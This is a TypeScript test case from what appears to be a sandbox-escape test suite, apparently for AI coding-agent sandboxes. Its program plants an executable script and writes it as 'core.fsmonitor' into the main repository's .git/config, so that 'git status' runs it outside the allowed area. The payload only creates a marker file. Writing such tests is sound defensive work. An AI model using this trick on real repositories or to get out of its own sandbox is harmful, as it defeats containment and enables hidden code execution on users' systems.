import { type Attack, sh } from '../attack.js'
import { linkedWorktree, sprung } from '../repository.js'

export const attack: Attack = {
  id: 'git/worktree-main-configuration-below',
  tries:
    'to name a program in the configuration of the main repository, somewhere below another writable root',
  source: 'srt 4B.1, 10; codex 9.2',
  rules: { all: 'write' },
  prepare: (stage) => linkedWorktree(stage, 'all/main'),
  program: sh`printf '#!/bin/sh\n: > "$OUT/sprung"\n' > "$S/evil" && chmod +x "$S/evil"
printf '[core]\nfsmonitor = %s\n' "$S/evil" >> "$STAGE/all/main/.git/config"`,
  succeeded: sprung('w', 'status'),
  control: 'plain',
  limit: 'the main repository of a worktree that lies below a directory which a rule of yours opens',
}
